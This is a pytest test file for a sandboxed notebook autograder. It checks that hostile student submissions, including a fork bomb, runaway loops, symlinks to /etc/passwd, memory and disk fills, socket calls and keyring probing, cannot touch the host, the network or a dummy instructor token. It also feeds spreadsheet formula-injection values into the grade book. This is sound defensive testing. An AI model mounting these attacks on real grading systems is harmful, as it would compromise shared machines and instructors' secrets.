    """Grade the main batch once per mode, with a canary home and the keyring wrapper."""
    subs = _folder(who, work, "submissions")
    root = subs.parent
    canary = _canary(root / "canary")
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen(8)
    port = listener.getsockname()[1]
    connections = []
    stop = threading.Event()

    def accept() -> None:
        listener.settimeout(1.0)
        while not stop.is_set():
            try:
                connections.append(listener.accept()[0])
            except OSError:
                continue

    thread = threading.Thread(target=accept, daemon=True)
    thread.start()
    expected = _write_main_batch(subs, dist, canary, port)
    out_dir = root / "out"
    out_dir.mkdir()
    who.own(canary.parent, out_dir)
    busy = []
    if who.mode == "unprivileged":  # a busy instructor: 70 processes of theirs
        as_them = who.prefix[who.prefix.index("setpriv"):] if "setpriv" in who.prefix else []
        busy = [subprocess.Popen([*as_them, "sleep", "600"]) for _ in range(70)]
    before = _hashes(canary)
    tmp = _tmpdir(who, root)
    memory_before = host(tmp)
    args = [str(subs), "--dist", str(dist), "--out", str(out_dir / "grades.csv"),
            "--json", str(out_dir / "grades.json"), "--feedback", str(out_dir / "feedback"),
            "--jobs", "2", "--time-limit", str(WALL), "--cell-time-limit", str(CELL),
            "--memory", "2"]
    start = time.perf_counter()
    try:
        proc = who.run(args, outfile=out_dir / "keyring.json",
                       env=_env(HOME=str(canary), TMPDIR=str(tmp)))
        stdout, stderr = proc.communicate(timeout=900)
    finally:
        for p in busy:
            p.kill()
            p.wait()
    seconds = time.perf_counter() - start
    time.sleep(0.5)
    memory_after = host(tmp)
    after = _hashes(canary)
    leftovers = subprocess.run(["ps", "-eo", "uid=,pid=,args="], capture_output=True,
                               text=True).stdout
    stop.set()
    thread.join(timeout=5)
    listener.close()
    assert (out_dir / "grades.json").is_file(), stdout[-3000:] + stderr[-3000:]
    rows = {r["student_id"]: r for r in json.loads((out_dir / "grades.json").read_text())}
    print(f"\nred team ({who.mode}): {len(rows)} rows in {seconds:.0f} s")
    for sid in sorted(rows):
        r = rows[sid]
        peak = (r.get("resources") or {}).get("memory_peak")
        print(f"  {sid[:28]:<28} {r['total']:>4g} / {r['possible']:<4g} {r['status']:<13} "
              f"{r.get('seconds', '')!s:>6} s {'' if peak is None else f'{peak / MiB:5.0f} MiB'}"
              f"  {r['error'][:60]}")
    return {"who": who, "stdout": stdout, "stderr": stderr, "seconds": seconds,
            "rows": rows, "expected": expected, "before": before, "after": after,
            "canary": canary, "connections": connections, "leftovers": leftovers,
            "out": out_dir, "args": args, "memory": (memory_before, memory_after),
            "keyring": json.loads((out_dir / "keyring.json").read_text()),
            "returncode": proc.returncode}


# ----------------------------------------------------------------------------- main batch
def test_every_submission_has_its_row_and_the_batch_is_bounded(batch):
    assert set(batch["rows"]) == set(batch["expected"]), (
        set(batch["rows"]) ^ set(batch["expected"]), batch["stderr"][-3000:])
    with open(batch["out"] / "grades.csv", newline="", encoding="utf-8") as handle:
        assert len(list(csv.DictReader(handle))) == len(batch["expected"])
    assert batch["seconds"] < 400, batch["seconds"]
    # the grader itself stays small: a 49 MB notebook in a zip, 15 MB of JSON values ...
    peak = re.search(r"grader peak memory (\d+) MB", batch["stdout"])
    assert peak and int(peak.group(1)) < 400, batch["stdout"][-500:]


def _expected_ids(kind: str) -> list[str]:
    if kind == "attack":
        return [f"{n}-{s}" for n, *_ in ATTACKS for s in ("01", "03")
                if s == "01" or n in ANSWER_ATTACKS]
    return [f"{n}-{s}" for n, _, _, _, shorts in HOSTILE for s in shorts]


@pytest.mark.parametrize("sid", [f"{n}-{s}" for n in ("correct", "partly", "empty")
                                 for s in ("01", "03")] + _expected_ids("attack")
                         + _expected_ids("hostile") + ["copied-01"])
def test_each_notebook_gets_the_score_its_real_answers_deserve(batch, sid):
    row, want = batch["rows"][sid], batch["expected"][sid]
    feedback = json.dumps(row["questions"])[:2000]
    if want == "error":
        assert row["status"] not in ("ok", "grader-error") and row["total"] == 0, row
        assert row["error"], row
    elif want is None:
        assert row["status"] == "ok", (row["status"], row["error"])
    else:
        assert row["status"] == "ok", (row["status"], row["error"])
        assert row["total"] == want, feedback
    assert row["possible"] == 11.0
    assert 0 <= row["total"] <= row["possible"]


def test_files_that_attack_the_batch_cost_their_own_row_only(batch):
    for sid, want in batch["expected"].items():
        row = batch["rows"][sid]
        if isinstance(want, tuple):
            status, words = want
            assert row["status"] == status and words in row["error"], (sid, row)
            assert row["total"] == 0, row
        elif not any(sid.startswith(p) for p in ("correct", "partly", "empty", "copied")) \
                and sid not in _expected_ids("attack") + _expected_ids("hostile"):
            assert row["status"] == "ok" and row["total"] == want, (sid, row)
    # a link is refused the same way whether its target exists: no existence oracle
    errors = {batch["rows"][s]["error"].replace(s, "") for s in
              ("link_kmsg", "link_passwd", "link_zero", "link_nowhere")}
    assert len(errors) == 1, errors


def test_the_keyrings_stay_shut(batch):
    keyring = batch["keyring"]
    assert keyring["before"]["token"] == "instructor-token: s3cr3t"
    assert keyring["after"] == keyring["before"]  # the key and the keyring's contents


def test_a_number_copied_from_another_student_fails(batch):
    row = batch["rows"]["copied-01"]
    assert row["status"] == "ok" and row["total"] == 0.0, row
    assert row["questions"]["q1"]["messages"][0].startswith("tau is not correct yet")


def test_hostile_loops_are_stopped_at_the_limit_with_an_error_row(batch):
    row = batch["rows"]["loop_ignoring_alarm-01"]
    assert row["status"] == "timeout" and "time limit" in row["error"], row


def test_nothing_outside_the_sandbox_changed_and_host_memory_and_disk_are_back(batch):
    assert batch["before"] == batch["after"]
    assert not (batch["canary"] / "PWNED").exists()
    assert (batch["canary"] / ".bashrc").read_text() == "# canary bashrc\n"
    assert not (EXERCISES / "dist" / "q1.py").exists()
    before, after = batch["memory"]
    print(f"\nhost ({batch['who'].mode}): shared memory {before['shmem'] / MiB:.0f} -> "
          f"{after['shmem'] / MiB:.0f} MiB, disk {(after['disk'] - before['disk']) / MiB:+.0f} "
          "MiB")
    # tolerances for a shared machine (other jobs write too); the attacks tried GBs
    assert after["shmem"] - before["shmem"] < 192 * MiB
    assert after["disk"] - before["disk"] < 512 * MiB
    assert after["leftovers"] == before["leftovers"] == []
    assert not list(Path("/sys/fs/cgroup").rglob(f"bmc-grade-{os.getpid()}"))


def test_no_network_and_no_process_left_behind(batch):
    assert batch["connections"] == []  # the socket attack never reached the listener
    uids = {int(line.split()[0]) for line in batch["leftovers"].splitlines() if line.strip()}
    assert not {u for u in uids if 61000 <= u < 61100}, batch["leftovers"]


def test_the_grade_book_is_safe_to_open_in_a_spreadsheet(batch):
    assert spreadsheet_problems(batch["out"] / "grades.csv") == []
    with open(batch["out"] / "grades.csv", newline="", encoding="utf-8") as handle:
        cells = {r["student_id"]: r for r in csv.DictReader(handle)}
    assert cells["'=1+2"]["file"] == "'=1+2.ipynb"
    assert cells["'-2+3"]["total"] == "11"
    hyperlink = cells["hyperlink_meta"]["assignment"]
    assert hyperlink.startswith("'=HYPERLINK(")


def test_nothing_raw_reaches_the_terminal_or_the_files(batch):
    assert _raw_controls(batch["stdout"].replace("\n", "")) == []
    assert _raw_controls(batch["stderr"].replace("\n", "")) == []
    lines = [line for line in batch["stdout"].splitlines() if line.strip()]
    assert len(lines) == len(batch["rows"]) + 1, lines[-5:]  # a row each, and the summary
    assert not any(line.startswith(("alice", "fake")) for line in lines)
    for path in (batch["out"] / "feedback").rglob("*.txt"):
        assert _raw_controls(path.read_text(encoding="utf-8").replace("\n", "")) == [], path
    for row in batch["rows"].values():
        assert _raw_controls(json.dumps(row, ensure_ascii=False)) == [], row["student_id"]


def test_feedback_files_cannot_collide_and_quote_answers_short(batch):
    folder = batch["out"] / "feedback"
    files = list(folder.rglob("*.txt"))
    graded = [r for r in batch["rows"].values() if r["student_id"]]
    assert len(files) == len(graded) == len({p.name.lower() for p in files})
    one = folder / grade.feedback_name("bmc-01-one-link")
    text = (one / "partly-01.txt").read_text()
    assert "q1: 0 / 2" in text and "Hint:" in text
    assert (one / "dup_id.txt").is_file() and (one / "case.txt").is_file()
    assert (one / f"{grade.feedback_name('dup id')}.txt").is_file()
    assert (one / f"{grade.feedback_name('Case')}.txt").is_file()
    victim = (one / "victim.txt").read_text()
    assert "victim.ipynb: 11 / 11" in victim and "victim.zip: 0 / 11" in victim
    assert max(p.stat().st_size for p in files) < 64 * 1024  # a 30 MB answer, quoted short
    assert (one / "big_string-01.txt").stat().st_size < 16 * 1024


def test_the_busy_unprivileged_instructor_grades_and_root_drops_its_uid(batch):
    if batch["who"].mode == "unprivileged":
        assert "Creating new namespace failed" not in json.dumps(batch["rows"])
        assert batch["rows"]["fork_bomb-01"]["status"] == "ok"
    assert batch["rows"]["correct-01"]["resources"]["memory_peak"] > 10 * MiB


def test_a_rerun_resumes_and_grades_nothing_twice(batch):
    out = batch["out"] / "grades.csv"
    lines = out.read_text(encoding="utf-8").splitlines()
    kept = [line for line in lines if not line.startswith("correct-01,")]
    out.write_text("\n".join(kept) + "\n", encoding="utf-8")
    args = [a for a in batch["args"]]
    i = args.index("--json")
    del args[i:i + 2]
    proc = batch["who"].run(args, outfile=batch["out"] / "keyring-2.json",
                            env=_env(HOME=str(batch["canary"])))
    stdout, stderr = proc.communicate(timeout=300)
    assert f"resuming: {len(batch['expected']) - 1} rows" in stdout, stdout + stderr
    assert "graded 1 submissions" in stdout, stdout
    with open(out, newline="", encoding="utf-8") as handle:
        rows = {r["student_id"]: r for r in csv.DictReader(handle)}
    assert len(rows) == len(batch["expected"]) and rows["correct-01"]["total"] == "11"


# ----------------------------------------------------------------------------- resources
@pytest.fixture(scope="module")
def resources(who, work, dist):
    """The resource batch: host memory and disk measured before, during and after each row."""
    subs = _folder(who, work, "resources")
    books = _notebooks(dist)
    solution = books["solution-01"]
    order = ["correct-a"]
    (subs / "correct-a.ipynb").write_text(json.dumps(solution))
    for i, (name, code, _) in enumerate(RESOURCE):
        (subs / f"r{i}-{name}.ipynb").write_text(_with(solution, code))
        order.append(f"r{i}-{name}")
    (subs / "z-correct.ipynb").write_text(json.dumps(solution))
    order.append("z-correct")
    out_dir = subs.parent / "resources-out"
    if out_dir.exists():
        shutil.rmtree(out_dir)
    out_dir.mkdir()
    who.own(out_dir)
    tmp = _tmpdir(who, subs.parent)
    baseline = host(tmp)
    peaks = {"shmem": baseline["shmem"], "disk": baseline["disk"]}
    samples: list[tuple[str, dict]] = []
    stop = threading.Event()

    def sample() -> None:
        while not stop.is_set():
            now = host(tmp)
            peaks["shmem"] = max(peaks["shmem"], now["shmem"])
            peaks["disk"] = max(peaks["disk"], now["disk"])
            time.sleep(0.05)

    thread = threading.Thread(target=sample, daemon=True)
    thread.start()
    args = [str(subs), "--autograder", str(dist / "01_one_link" / "01_one_link-autograder.zip"),
            "--out", str(out_dir / "grades.csv"), "--json", str(out_dir / "grades.json"),
            "--jobs", "1", "--time-limit", "60", "--cell-time-limit", "30", "--memory", "1"]
    proc = who.run(args, outfile=out_dir / "keyring.json", env=_env(TMPDIR=str(tmp)))
    for line in proc.stdout:  # a row is printed after its sandbox is gone: measure then
        if line.strip() and not line.startswith("graded"):
            samples.append((line.split()[0], host(tmp)))
    stderr = proc.stderr.read()
    proc.wait(timeout=600)
    proc.stdout.close()
    proc.stderr.close()
    stop.set()
    thread.join(timeout=5)
    time.sleep(0.5)
    final = host(tmp)
    rows = {r["student_id"]: r for r in json.loads((out_dir / "grades.json").read_text())}
    print(f"\nresource batch ({who.mode}), 1 GiB per submission: baseline shared memory "
          f"{baseline['shmem'] / MiB:.0f} MiB, peak {peaks['shmem'] / MiB:.0f} MiB, "
          f"disk peak {(peaks['disk'] - baseline['disk']) / MiB:+.0f} MiB")
    for sid, state in samples:
        r = rows.get(sid, {})
        peak = (r.get("resources") or {}).get("memory_peak") or 0
        print(f"  {sid:<22} {r.get('status', '?'):<7} {r.get('total', '?'):>4} pts  "
              f"cgroup peak {peak / MiB:5.0f} MiB  after: shared memory "
              f"{(state['shmem'] - baseline['shmem']) / MiB:+5.0f} MiB, disk "
              f"{(state['disk'] - baseline['disk']) / MiB:+5.0f} MiB  {r.get('error', '')[:50]}")
    return {"rows": rows, "order": order, "samples": samples, "baseline": baseline,
            "peaks": peaks, "final": final, "stderr": stderr}


@pytest.mark.parametrize("name", [n for n, _, _ in RESOURCE])
def test_memory_and_disk_fills_cost_their_own_row_and_are_undone(resources, name):
    i = [n for n, _, _ in RESOURCE].index(name)
    sid = f"r{i}-{name}"
    rows, base = resources["rows"], resources["baseline"]
    assert set(rows) == set(resources["order"]), resources["stderr"][-2000:]
    expected = RESOURCE[i][2]
    row = rows[sid]
    if expected == "full":
        assert row["status"] == "ok" and row["total"] == 11.0, row
    else:
        assert row["status"] == "crash" and "memory limit" in row["error"], row
    assert rows["correct-a"]["total"] == rows["z-correct"]["total"] == 11.0
    # the cgroup saw the fill and capped it (the limit is 1 GiB)
    usage = row["resources"]
    assert 0 < usage["memory_peak"] <= 2**30, usage
    # after its row: the host's shared memory and disk are back where they started
    (state,) = [s for n, s in resources["samples"] if n == sid]
    assert state["shmem"] - base["shmem"] < 128 * MiB, state
    assert state["disk"] - base["disk"] < 512 * MiB, state  # the fills tried 1 and 12 GB
    assert len(state["leftovers"]) <= 1, state  # only the next submission's inputs
    assert resources["final"]["leftovers"] == []


def test_the_fills_never_reached_the_host(resources):
    base, peaks = resources["baseline"], resources["peaks"]
    # 4.1 GiB of memfd and 12 GB of tmpfs files were tried; the cap is 1 GiB
    assert peaks["shmem"] - base["shmem"] < 1.25 * 2**30, peaks
    assert peaks["disk"] - base["disk"] < 512 * MiB, peaks
    assert resources["final"]["shmem"] - base["shmem"] < 128 * MiB


# ----------------------------------------------------------------------------- cross-talk
def _set1_batch(who: Instructor, dist: Path, subs: Path, out: str) -> tuple[Path, list[str]]:
    """A fresh output folder of the instructor's and grade.py's arguments for a set-1 batch."""
    out_dir = subs.parent / out
    if out_dir.exists():
        shutil.rmtree(out_dir)
    out_dir.mkdir()
    who.own(out_dir)
    return out_dir, [str(subs), "--autograder",
                     str(dist / "01_one_link" / "01_one_link-autograder.zip"),
                     "--out", str(out_dir / "grades.csv"), "--json",
                     str(out_dir / "grades.json"), "--jobs", "2"]


def test_two_submissions_side_by_side_share_no_keyring(who, work, dist):
    subs = _folder(who, work, "crosstalk")
    solution = _notebooks(dist)["solution-01"]
    for role in ("plant", "seek"):
        (subs / f"xtalk_{role}.ipynb").write_text(_with(solution, XTALK.replace("ROLE", role)))
    out_dir, args = _set1_batch(who, dist, subs, "crosstalk-out")
    args += ["--time-limit", str(WALL), "--cell-time-limit", str(CELL)]
    proc = who.run(args, outfile=out_dir / "keyring.json", env=_env())
    stdout, stderr = proc.communicate(timeout=300)
    rows = {r["student_id"]: r for r in json.loads((out_dir / "grades.json").read_text())}
    a, b = rows["xtalk_plant"], rows["xtalk_seek"]
    # a breach would spoil the answers: both keep full marks
    assert a["status"] == b["status"] == "ok" and a["total"] == b["total"] == 11.0, (
        a, b, stderr[-2000:])
    keyring = json.loads((out_dir / "keyring.json").read_text())
    assert keyring["after"] == keyring["before"]
    overlap = min(a["started"] + a["seconds"], b["started"] + b["seconds"]) - max(
        a["started"], b["started"])
    # 3 s probes every 0.2 s: 0.8 s side by side is 4 probes of each while the other is up
    assert overlap > 0.8, ("the cross-talk pair did not run side by side", a, b)


# ----------------------------------------------------------------------------- roster
def test_roster_mode_refuses_unlisted_files_and_lists_missing_students(who, work, dist):
    subs = _folder(who, work, "roster")
    books = _notebooks(dist)
    (subs / "r1.ipynb").write_text(json.dumps(books["solution-01"]))
    (subs / "r2.ipynb").write_text(json.dumps(books["blank-01"]))
    (subs / "intruder.ipynb").write_text(json.dumps(books["solution-01"]))
    roster = subs.parent / "roster.csv"
    roster.write_text("file,student_id\nr1.ipynb,s001\nr2.ipynb,s002\nghost.ipynb,s003\n")
    roster.chmod(0o644)
    out_dir, args = _set1_batch(who, dist, subs, "roster-out")
    args += ["--ids", str(roster)]
    proc = who.run(args, outfile=out_dir / "keyring.json", env=_env())
    stdout, stderr = proc.communicate(timeout=300)
    rows = json.loads((out_dir / "grades.json").read_text())
    by = {(r["student_id"], r["status"]): r for r in rows}
    assert len(rows) == 4, stdout + stderr
    assert by[("s001", "ok")]["total"] == 11.0 and by[("s002", "ok")]["total"] == 0.0
    refused = by[("", "not-in-roster")]
    assert refused["file"] == "intruder.ipynb" and refused["total"] == 0
    assert "resources" not in refused  # never run
    assert by[("s003", "no-submission")]["total"] == 0


def test_without_bubblewrap_the_grader_refuses(tmp_path):
    nb = tmp_path / "alice.ipynb"
    nb.write_text(json.dumps({"cells": [], "metadata": {}, "nbformat": 4,
                              "nbformat_minor": 5}))
    done = subprocess.run([sys.executable, str(EXERCISES / "grade.py"), str(nb),
                           "--autograder", "none.zip", "--out", str(tmp_path / "g.csv")],
                          capture_output=True, text=True, env=_env(PATH="/nonexistent"),
                          timeout=120)
    assert done.returncode != 0
    assert "refusing to run student code without a sandbox" in done.stderr
    assert "--unsafe-no-sandbox" in done.stderr
    assert not (tmp_path / "g.csv").exists()


def test_without_a_cgroup_the_unprivileged_grader_refuses(who, work, dist):
    if who.mode != "unprivileged" or not who.cgroup_args:
        pytest.skip("only for the unprivileged instructor with a delegated cgroup")
    out_dir = _folder(who, work, "no-cgroup")
    who.own(out_dir)
    nb = out_dir / "alice.ipynb"
    nb.write_text(json.dumps(_notebooks(dist)["solution-01"]))
    args = [str(nb), "--autograder", str(dist / "01_one_link" / "01_one_link-autograder.zip"),
            "--out", str(out_dir / "g.csv")]
    proc = who.run(args, outfile=out_dir / "keyring.json", env=_env(), cgroup=False)
    stdout, stderr = proc.communicate(timeout=120)
    assert proc.returncode != 0
    assert "refusing to grade without a memory cgroup" in stderr, stderr
    assert "--unsafe-no-cgroup" in stderr
    assert not (out_dir / "g.csv").exists()
